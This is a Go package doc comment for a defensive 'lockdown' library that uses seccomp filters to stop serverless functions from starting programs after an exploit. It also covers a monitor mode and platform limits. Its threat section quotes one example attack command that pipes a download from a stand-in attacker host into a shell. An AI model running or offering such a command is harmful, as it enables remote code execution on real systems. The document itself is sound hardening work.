// Package lockdown applies irreversible, process-wide kernel restrictions to
// a serverless function once it has started, so that a successful exploit
// has less to work with.
//
// # Threat
//
// Command injection, or any code execution inside the function, usually
// wants a shell: sh -c 'curl attacker | sh', a reverse shell, or a
// downloaded tool. A Go function has no legitimate need to start programs in
// most cases, so [Exec] removes the ability altogether: after it, execve and
// execveat fail with EPERM on every thread, including threads created later,
// so os/exec, syscall.Exec and injected shellcode all fail. It also stops
// child processes from escaping package egress, which only sees this
// process's own connections.
//
// # Mechanism
//
// Exec sets no_new_privs and loads a seccomp-bpf filter with
// SECCOMP_FILTER_FLAG_TSYNC, so all threads of the Go runtime are covered at
// once. The filter also blocks the x32 ABI on x86-64 and the exec calls of
// the 32-bit compat ABI (int 0x80 on x86-64, AArch32 on arm64), and denies
// calls from any other audit architecture, so switching ABI does not get
// around it. All other system calls are untouched; the Go runtime (threads,
// timers, network poller, GC) keeps working.
//
// The refusal is silent: the kernel logs nothing and the program that tried
// sees only EPERM. [IsDenied] recognises that error, so that application code
// can report it (guard's ReportExecDenied turns it into a logged, counted
// finding with rule id "lockdown.exec").
//
// # Monitor mode
//
// [ExecMonitor] ([ApplyMonitor]) is what guard calls when FNGUARD_MODE is
// monitor: it refuses nothing and changes nothing the process can observe.
// It loads a filter answering exec calls with SECCOMP_RET_LOG (allowed, and
// logged to the kernel's audit log) only where no_new_privs is already in
// effect, because setting it would change how setuid and file-capability
// programs run. The kernel log is not visible to Lambda or Cloud Functions,
// so would-be refusals are reported in process by guard's
// ReportExecAttempt, which guard/execguard calls before each start; starts
// that bypass it are not seen.
//
// Neither step can be undone for the life of the process, which in Lambda
// and Cloud Functions means the life of the execution environment: enable it
// only for functions that never start programs. It is opt-in via
// FNGUARD_LOCKDOWN=exec, parsed by [ParseSpec].
//
// Where seccomp is not available (another GOOS, an architecture other than
// amd64 and arm64, a kernel without seccomp filters, or a sandbox that
// forbids them) Exec returns an *UnavailableError and changes nothing but,
// at most, the calling thread's no_new_privs bit; the caller decides whether
// that is fatal. Whether a platform permits it is detected at run time, not
// assumed.
//
// A write-restricting "fs" lockdown with Landlock is deliberately not
// offered: Landlock confines only the calling thread unless the kernel
// supports LANDLOCK_RESTRICT_SELF_TSYNC, so in a Go process it would leave
// the runtime's other threads unrestricted.
package lockdown
